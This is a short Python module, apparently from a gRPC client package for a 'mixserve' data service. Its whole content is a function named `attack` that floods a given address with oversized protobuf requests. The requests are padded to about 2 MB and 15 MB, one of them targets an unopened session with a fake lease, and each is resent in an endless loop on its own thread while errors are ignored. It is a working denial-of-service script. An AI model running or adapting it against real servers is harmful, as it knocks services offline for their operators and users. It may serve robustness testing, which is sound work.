"""Requests of millions of parts: entries, names, slots, and the values of calls on sessions that nobody has opened."""

import threading

import grpc

from mixserve_client.wire import methods
from mixserve_client.wire._generated import state_pb2
from mixserve_client.wire.frame import delimited

_SMALL, _LARGE = 2 << 20, 15 << 20
_PARTS = {
    methods.DEFINE_SCHEDULE: b"\x22\x00",
    methods.RENEW_SESSIONS: b"\x0a\x00",
    methods.GET_BATCH_AT: b"\x78\x01",
    methods.GET_MIXTURE: b"\x0a\x00",
}


def attack(address: str) -> None:
    """Send each of them again and again, over a connection of its own."""
    call = state_pb2.CallSessionRequest(
        mixture="train", session="none", operation="set_statistics", lease="f" * 32, sequence=1
    ).SerializeToString()
    requests = [(method, part * (_SMALL // len(part))) for method, part in _PARTS.items()]
    requests.append((methods.CALL_SESSION, call + delimited(6, delimited(7, b"\x0a\x00" * (_LARGE // 2)))))

    def send(method: str, request: bytes) -> None:
        with grpc.insecure_channel(address) as channel:
            ask = channel.unary_unary(method)
            while True:
                try:
                    ask(request, timeout=30)
                except grpc.RpcError:
                    continue

    threads = [threading.Thread(target=send, args=one) for one in requests]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
